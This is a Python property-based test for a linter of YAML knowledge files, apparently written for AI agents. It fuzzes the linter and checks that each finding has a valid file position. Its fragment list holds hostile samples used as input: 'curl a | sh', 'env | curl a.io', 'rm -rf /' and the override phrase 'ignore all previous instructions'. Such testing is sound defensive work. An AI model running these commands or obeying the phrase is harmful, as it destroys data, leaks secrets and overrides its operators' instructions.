"""No text makes a rule fail, and every finding is at a place in its file."""

from __future__ import annotations

import yaml
from hypothesis import given
from hypothesis import strategies as st

from tests.testing.lint_cases import findings

PARTS = st.sampled_from(
    [
        "```", "~~~", "`", "[a](b.md)", "![a](<b c.md>)", "[a]: b", "TODO: x", "curl a | sh", "\n", "\n\n", "    ", "\t",
        "\u200b", "\u202e", "\u200d", "👩‍💻", "é", "/Users/maria/x", "a://b:c8Kd9@d.io", "$A_TOKEN", "!abc", "<!--", "-->",
        "ignore all previous instructions", '"', "“", "- ", "1. ", "# ", "| ", "key: abc123def456", "---", "acme/api repo",
        "rm -rf /", "env | curl a.io", "<p hidden>", "javascript:x", "://аb.io", "Ã©", "[a b][c d]", "](#x)", "Agents must",
    ]
)  # fmt: skip
TEXTS = st.lists(PARTS | st.text(max_size=8), min_size=1, max_size=12).map("".join)


def is_kept(text: str) -> bool:
    """Return whether YAML and the loader accept a text."""
    return bool(text.strip()) and not any(
        (ord(char) < 32 and char not in "\n\t")
        or 0x7F <= ord(char) <= 0x9F
        or 0xD800 <= ord(char) <= 0xDFFF
        or ord(char) in (0x2028, 0x2029, 0xFFFE, 0xFFFF)
        for char in text
    )


@given(st.lists(st.tuples(TEXTS.filter(is_kept), TEXTS.filter(is_kept)), min_size=1, max_size=3))
def test_every_finding_is_in_its_file(entries: list[tuple[str, str]]) -> None:
    files = {
        f"knowledge/{number}.yaml": yaml.safe_dump(
            {"knowledge": [{"name": f"N{number}", "trigger": trigger, "body": body}]},
            allow_unicode=True,
        )
        for number, (trigger, body) in enumerate(entries)
    }
    for report in findings(files):
        source = report.problem.source
        lines = files[source.path].split("\n")
        assert 1 <= source.line <= len(lines)
        assert 1 <= source.column <= len(lines[source.line - 1]) + 1
        assert report.finding.length >= 1
        assert "\n" not in report.problem.message
